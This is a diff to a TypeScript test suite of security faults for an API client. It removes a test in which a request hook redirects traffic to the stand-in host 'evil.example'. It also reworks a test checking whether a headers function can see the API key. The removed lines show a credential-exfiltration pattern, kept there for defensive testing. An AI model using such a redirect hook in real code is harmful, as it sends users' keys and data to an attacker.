@@ -153,31 +153,19 @@ export const security: readonly Fault[] = [
     const requestId = `${apiKey.slice(0, 6)}\r\n${apiKey.slice(6)}`
     return leak(failure(502, 'upstream_error', { top: { requestId } }), { retry: false })
   }),
-  fault(335, 'a hook sends the request to another origin', async () => {
-    const { fetch, at } = scripted(page)
-    const client = makeClient({
-      fetch,
-      hooks: { beforeRequest: [({ request }) => new Request('https://evil.example/', request) as never] },
-    })
-    const { error } = await outcomeOf(client.microblog.search({ query: 'rust' }))
-    return `${ending(error)}; ${at.length} sent`
-  }),
-  fault(336, 'a hook that prints what it sees', async () => {
+  fault(336, 'a function for headers that prints what it sees', async () => {
     let seen = ''
     const server = await rawServer((socket) => void socket.end(http('200 OK', JSON.stringify(success))))
     const client = makeClient({
       baseUrl: server.baseUrl,
-      hooks: {
-        beforeRequest: [
-          ({ request, options }) => {
-            seen += JSON.stringify([...request.headers]) + inspect(options, { showHidden: true })
-          },
-        ],
+      headers: (...seenByIt) => {
+        seen += inspect(seenByIt, { depth: null, showHidden: true })
+        return {}
       },
     })
     const { error } = await outcomeOf(client.microblog.search({ query: 'rust' }))
     await server.close()
     const there = server.requests.join().includes(`Bearer ${apiKey}`)
-    return `${ending(error)}; the hook saw ${seen.includes(apiKey) ? 'the' : 'no'} key, the service ${there ? 'did' : 'did not'}`
+    return `${ending(error)}; the function saw ${seen.includes(apiKey) ? 'the' : 'no'} key, the service ${there ? 'did' : 'did not'}`
   }),
 ]
